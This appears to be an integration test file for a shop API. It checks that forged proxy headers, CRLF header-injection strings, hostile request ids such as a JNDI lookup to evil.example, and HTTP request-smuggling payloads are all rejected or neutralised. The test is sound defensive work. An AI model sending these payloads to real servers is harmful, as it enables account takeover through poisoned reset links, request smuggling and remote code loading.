import { request } from 'node:http';
import { connect } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { eventually } from '../support/eventually';
import { listed, Shop, type Problem } from '../support/shop';
import { Stores } from '../support/stores';

interface Mail {
  to: string;
  text: string;
  html: string;
}

const FORGED = {
  'x-forwarded-host': 'evil.example',
  'x-forwarded-proto': 'http',
  'x-forwarded-for': '203.0.113.77',
  'x-real-ip': '203.0.113.77',
  'x-original-url': '/v1/admin/users',
  'x-rewrite-url': '/v1/admin/users',
  'x-http-method-override': 'DELETE',
  forwarded: 'for=203.0.113.77;host=evil.example',
};

describe('what a client claims of itself in headers', () => {
  const shop = new Shop();
  const stores = new Stores();
  afterAll(() => stores.close());

  it('changes neither address, method nor who one is', async () => {
    const customer = await shop.customer();
    const answer = await customer.send<{ id: string }>('GET', '/v1/users/me', undefined, FORGED);
    expect(answer.status).toBe(200);
    expect(answer.body.id).toBe(customer.userId);
    expect((await customer.send('GET', '/v1/admin/users', undefined, FORGED)).status).toBe(403);
  });

  it('is not the address that requests are counted by', async () => {
    // No other test asks for this one.
    const path = '/v1/categories/by-slug/forged';
    await shop.visitor().send('GET', path, undefined, FORGED);
    expect(await stores.redis.keys('rate_limit:*GET/v1/categories/by-slug/:slug')).toEqual([
      'rate_limit:127.0.0.1:GET/v1/categories/by-slug/:slug',
    ]);
    expect(await stores.redis.keys('*203.0.113.77*')).toEqual([]);
  });

  it('is in no mail: its links lead to the shop', async () => {
    const customer = await shop.customer();
    const headers = { ...FORGED, 'x-forwarded-host': 'evil.example' };
    await shop.visitor().send('POST', '/v1/auth/password/forgot', { email: customer.email }, headers);
    const mail = await eventually('the mail', async () => {
      const mails = await listed<Mail>(shop.stack.mailUrl);
      return mails.find(({ to, text }) => to.includes(customer.email) && text.includes('#token='));
    });
    expect(`${mail.text}${mail.html}`).not.toContain('evil.example');
  }, 30_000);

  it('as Host leads nowhere else, not by a redirect either', async () => {
    const { hostname, port } = new URL(shop.stack.apiUrls[0] ?? '');
    const location = await new Promise<string | undefined>((resolve, reject) => {
      const options = { hostname, port, path: '/problems/order.not_found', headers: { host: 'evil.example' } };
      request(options, (response) => {
        response.resume();
        resolve(response.headers.location);
      })
        .on('error', reject)
        .end();
    });
    expect(location).toBe('/docs/errors#order.not_found');
  });

  it.each(['a%0d%0aX-Injected:%20yes', 'a\u2028X-Injected', '%E5%98%8A%E5%98%8DX-Injected:%20yes'])(
    'or sneaks into an address adds no header: %s',
    async (text) => {
      for (const path of [`/v1/products/search?q=${text}`, `/problems/${text}`, `/v1/products/by-slug/${text}`]) {
        const response = await fetch(`${shop.stack.baseUrl}${path}`, { redirect: 'manual' });
        expect(response.status).toBeLessThan(500);
        expect(response.headers.get('x-injected')).toBeNull();
        await response.body?.cancel();
      }
    },
  );

  it('as a request id is kept only when it is harmless', async () => {
    for (const id of ['a b', '<script>', 'x'.repeat(200), '${jndi:ldap://evil.example}']) {
      const answer = await shop.visitor().send('GET', '/v1/categories', undefined, { 'x-request-id': id });
      expect(answer.headers.get('x-request-id')).toMatch(/^[A-Za-z0-9._-]{8,128}$/);
      expect(answer.headers.get('x-request-id')).not.toBe(id);
    }
  });
});

/** Two ways to read where a request ends would let one client speak in the name of the next. */
describe('a request that ends in two places', () => {
  const shop = new Shop();
  const { hostname, port } = new URL(shop.stack.apiUrls[0] ?? '');

  async function answersTo(text: string): Promise<string> {
    const socket = connect(Number(port), hostname, () => socket.write(text));
    let answers = '';
    socket.on('data', (data) => (answers += data.toString()));
    socket.on('error', () => undefined);
    await Promise.race([new Promise((resolve) => socket.once('close', resolve)), wait(2_000)]);
    socket.destroy();
    return answers;
  }

  it.each([
    ['two lengths', 'Content-Length: 2\r\nContent-Length: 40\r\n'],
    ['a length and chunks', 'Content-Length: 2\r\nTransfer-Encoding: chunked\r\n'],
    ['chunks written oddly', 'Transfer-Encoding: xchunked\r\n'],
    ['a broken header', 'Content-Length : 2\r\n'],
  ])('by %s is answered once, with 400', async (_, headers) => {
    const next = 'GET /v1/admin/users HTTP/1.1\r\nHost: shop\r\n\r\n';
    const text = `POST /v1/auth/login HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\n${headers}\r\n{}${next}`;
    const answers = await answersTo(text);
    expect(answers.match(/HTTP\/1\.1 \d{3}/g)).toEqual(['HTTP/1.1 400']);
  });
});

describe('a method that an address does not take', () => {
  const shop = new Shop();

  it.each([
    ['PUT', '/v1/products', 'GET, HEAD'],
    ['DELETE', '/v1/orders', 'GET, HEAD, POST'],
    ['POST', '/v1/products/0193b2f0-5e0a-7c33-9d5e-6f0f5a1c2001', 'GET, HEAD'],
    ['DELETE', '/v1/admin/products/export', null],
    ['PATCH', '/v1/products/search', 'GET, HEAD'],
    ['OPTIONS', '/v1/cart/items', 'POST'],
    ['PROPFIND', '/v1/cart', 'DELETE, GET, HEAD'],
  ])('%s %s is 405 and told what it takes', async (method, path, allow) => {
    for (const baseUrl of [shop.stack.baseUrl, shop.stack.apiUrls[0] ?? '']) {
      const response = await fetch(`${baseUrl}${path}`, { method });
      const problem: Problem = JSON.parse(await response.text());
      if (allow === null) {
        // Another method has an id in that place: this one looks for a product of that name.
        expect(response.status).toBe(401);
        continue;
      }
      expect([response.status, problem.code]).toEqual([405, 'method_not_allowed']);
      expect(response.headers.get('allow')).toBe(allow);
    }
  });

  it('is 404 where nothing is', async () => {
    const answer = await shop.visitor().send('DELETE', '/v1/nothing');
    expect([answer.status, answer.body.code]).toEqual([404, 'not_found']);
  });
});
